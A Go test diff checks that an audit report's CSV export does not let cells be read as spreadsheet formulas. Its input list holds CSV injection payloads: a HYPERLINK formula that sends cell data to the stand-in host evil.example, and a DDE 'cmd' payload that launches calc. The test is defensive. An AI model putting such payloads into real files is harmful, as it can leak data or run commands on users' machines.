@@ -20,7 +20,7 @@ func TestCSVCellsAreNotFormulas(t *testing.T) {
 	evil := []string{`=HYPERLINK("http://evil.example/?d="&A1,"点击")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"}
 	var r audit.Report
 	for i, s := range evil {
-		r.Items = append(r.Items, audit.ItemRow{ItemID: s, DocKey: s, Title: s, DocNumber: s, Source: s, Class: s,
+		r.Items = append(r.Items, audit.ItemRow{ItemID: s, DocKey: s, Title: s, DocNumber: s, Source: s, Class: syndicator.Class(s),
 			Where: s, ArchiveKeys: []string{s}, WARC: s, OriginalSHA256: s, PublishedSHA256: s, Status: audit.Status(s),
 			Precision: syndicator.Precision(s), LagHours: -1.5, DateOnly: true, LagMinHours: -2, LagMaxHours: float64(i)})
 	}
